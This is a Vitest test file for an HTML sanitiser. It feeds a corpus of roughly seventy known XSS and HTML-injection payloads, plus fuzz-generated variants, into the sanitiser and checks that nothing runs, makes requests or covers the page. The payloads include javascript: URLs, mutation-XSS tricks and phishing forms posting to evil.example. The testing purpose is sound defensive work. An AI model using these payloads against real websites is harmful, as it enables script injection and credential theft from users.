// @vitest-environment jsdom
import * as fc from 'fast-check'
import { expect, test, vi } from 'vitest'
import { cleanHtml } from './ServerHtml.tsx'

// A string, without Trusted Types in jsdom.
const clean = cleanHtml

test('text, lists, tables, pictures and links of the operator stay; links open in a new tab without a referrer', () => {
  expect(clean('<h3>One</h3><p>Two <b>three</b></p><ul><li>Four</li></ul><img src="/pictures/a.svg" alt="a">')).toBe(
    '<h3>One</h3><p>Two <b>three</b></p><ul><li>Four</li></ul><img src="/pictures/a.svg" alt="a">',
  )
  expect(clean('<a href="https://x.example/a">x</a><a href="tel:+66">y</a>')).toBe(
    '<a href="https://x.example/a" target="_blank" rel="noopener noreferrer">x</a><a href="tel:+66" target="_blank" rel="noopener noreferrer">y</a>',
  )
})

// @covers G15.1
test.each([
  ['a script', '<script>alert(1)</script>', ''],
  ['a handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
  ['a broken picture', '<img src=x onerror=alert(1)>', '<img>'],
  ['a form that asks for a password', '<form action="https://evil.example"><input type="password"><button>Go</button></form>', 'Go'],
  ['a cover over the page', '<div style="position:fixed;inset:0" class="sheet" id="root">a</div>', '<div>a</div>'],
  ['a style sheet', '<style>body{display:none}</style>a', 'a'],
  ['svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>b', 'b'],
  ['a script for an address', '<a href="javascript:alert(1)">a</a>', '<a target="_blank" rel="noopener noreferrer">a</a>'],
  ['plain http', '<a href="http://x.example">a</a>', '<a target="_blank" rel="noopener noreferrer">a</a>'],
  ['a picture of another site by a short address', '<img src="//evil.example/a.png">', '<img>'],
  ['a frame', '<iframe src="https://x.example"></iframe>a', 'a'],
  [
    'what takes the page’s address or name',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0"><a name="body">a</a>',
    '<a target="_blank" rel="noopener noreferrer">a</a>',
  ],
])('sanitising removes %s', (_, html, left) => {
  expect(clean(html)).toBe(left)
})

const elements =
  /^(?:script|noscript|style|link|meta|base|title|template|slot|.*-.*|svg|math|xmp|plaintext|iframe|frame|frameset|object|embed|applet|portal|form|input|button|textarea|select|option|datalist|label|fieldset|output|dialog)$/
const attributes =
  /^(?:on.*|style|class|id|name|srcdoc|srcset|action|formaction|ping|popover.*|autofocus|tabindex|contenteditable|slot|is|xmlns.*|xlink.*|data-.*|aria-.*)$/
/** https, telephone, the two app stores, or a path of this origin. */
const allowed = /^(?:https:|tel:|itms-apps:|market:|\/(?!\/))/i

/** Elements and attributes that could run code, submit data or cover the page. */
function faultsOf(html: string): string[] {
  const page = document.createElement('div')
  page.innerHTML = html
  return [...page.querySelectorAll('*')].flatMap((element) => [
    ...(elements.test(element.localName) ? [`<${element.localName}>`] : []),
    ...[...element.attributes].flatMap(({ name, value }) => {
      // DOMPurify empties these two when it cannot remove them, which is harmless.
      if (value === '' && (name === 'src' || name === 'is')) return []
      if (attributes.test(name)) return [`${element.localName} ${name}`]
      const leads = /^(?:href|src|poster|cite|background|longdesc|ping|data)$/i.test(name)
      return leads && !allowed.test(value) ? [`${name}=${value}`] : []
    }),
  ])
}

const cleaned = (html: string): string => clean(html) as unknown as string
const run = vi.fn<() => void>()
Object.assign(window, { attacked: run })

/** Known HTML injection attacks: they call `attacked`, ask for a password, or cover the page. */
const corpus = String.raw`
<script>attacked()</script>
<scr<script>ipt>attacked()</scr</script>ipt>
<ScRiPt src=https://evil.example/a.js></ScRiPt>
<img src=x onerror=attacked()>
<img src="x" ONERROR="attacked()" />
<img/src/onerror=attacked()>
<img src=x onerror&#61;attacked()>
<svg onload=attacked()>
<svg><script>attacked()</script></svg>
<svg><animate onbegin=attacked() attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:attacked()"><rect width=9999 height=9999 /></a></svg>
<svg><style><img src=x onerror=attacked()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=attacked()>">
<svg><foreignObject><iframe srcdoc="<script>parent.attacked()</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>attacked()</script></svg>#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">
<math><mi xlink:href="data:x,<script>attacked()</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>
<noscript><p title="</noscript><img src=x onerror=attacked()>">
<template><img src=x onerror=attacked()></template>
<textarea><img title="</textarea><img src=x onerror=attacked()>"></textarea>
<title><img title="</title><img src=x onerror=attacked()>"></title>
<xmp><img title="</xmp><img src=x onerror=attacked()>"></xmp>
<select><option><style></option></select><img src=x onerror=attacked()></style>
<iframe srcdoc="<script>parent.attacked()</script>"></iframe>
<iframe src="javascript:parent.attacked()"></iframe>
<object data="javascript:attacked()"></object>
<embed src="javascript:attacked()">
<a href="javascript:attacked()">a</a>
<a href="  jAvAsCrIpT:attacked()">a</a>
<a href="java&#x09;script:attacked()">a</a>
<a href="&#1;javascript:attacked()">a</a>
<a href="javascript&colon;attacked()">a</a>
<a href="vbscript:attacked()">a</a>
<a href="data:text/html,<script>attacked()</script>">a</a>
<a href="blob:https://x.example/1">a</a>
<a href="//evil.example">a</a>
<a href="\\evil.example">a</a>
<a href="https://x.example" ping="https://evil.example" target="_self" rel="opener">a</a>
<area href="javascript:attacked()">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:attacked()">
<link rel=stylesheet href="https://evil.example/a.css">
<style>*{background:url(https://evil.example)}</style>
<div style="position:fixed;inset:0;z-index:9999">Log in again</div>
<div style="background:url(javascript:attacked())">a</div>
<p class="sheet" id="root" tabindex="0" autofocus onfocus=attacked()>a</p>
<form action="https://evil.example"><input name=password type=password><button>Log in</button></form>
<input type=password formaction="https://evil.example" autofocus onfocus=attacked()>
<button formaction="javascript:attacked()">Log in</button>
<label for=amount>Log in<textarea name=password></textarea></label>
<select onchange=attacked()><option>1</select>
<dialog open>Log in again</dialog>
<div popover id=x>Log in</div><button popovertarget=x>Open</button>
<details open ontoggle=attacked()><summary>a</summary></details>
<video src=x onerror=attacked()></video>
<video><source onerror=attacked()></video>
<audio src=x onerror=attacked() autoplay></audio>
<marquee onstart=attacked()>a</marquee>
<body onload=attacked() background="javascript:attacked()">
<table background="javascript:attacked()"><td background="javascript:attacked()">a</table>
<a name=getElementById>a</a><img name=body>
<title>Log in</title>a<title>Log in</title>
<p is="x-evil">a</p><x-evil>a</x-evil><slot name=x>a</slot>
<div contenteditable onblur=attacked()>Log in</div>
<img srcset="https://evil.example/a.png 1x">
<p>[CDATA[<img src=x onerror=attacked()>]]></p>
<!--><img src=x onerror=attacked()>-->
<![CDATA[><img src=x onerror=attacked()>]]>
<?xml version="1.0"?><img src=x onerror=attacked()>
<a href="https://x.example/&quot; onclick=&quot;attacked()">a</a>
`
  .trim()
  .split('\n')

// @covers G15.3
test.each(corpus)('nothing in %s runs, requests or covers the page', (attack) => {
  const left = cleaned(attack)
  expect(faultsOf(left)).toEqual([])
  // Cleaning must be idempotent, or a second pass could reveal hidden markup.
  expect(clean(left)).toBe(left)
  expect(run).not.toHaveBeenCalled()
})

const pieces = [...new Set(corpus.flatMap((attack) => attack.split(/(?<=[<>"=\s])|(?=[<>"=\s])/)))]
const generated = fc.array(
  fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...pieces) },
    { weight: 3, arbitrary: fc.constantFrom(...corpus) },
    { weight: 1, arbitrary: fc.string() },
  ),
  {
    minLength: 1,
    maxLength: 24,
  },
)

// @covers G15.3 T39
test('nothing in 1 000 generated attacks runs, requests or covers the page', () => {
  let seen = 0
  fc.assert(
    fc.property(generated, (parts) => {
      const left = cleaned(parts.join(''))
      seen += 1
      expect([faultsOf(left), run.mock.calls]).toEqual([[], []])
    }),
    { numRuns: 1_000, seed: 20_261_122 },
  )
  expect(seen).toBe(1_000)
})
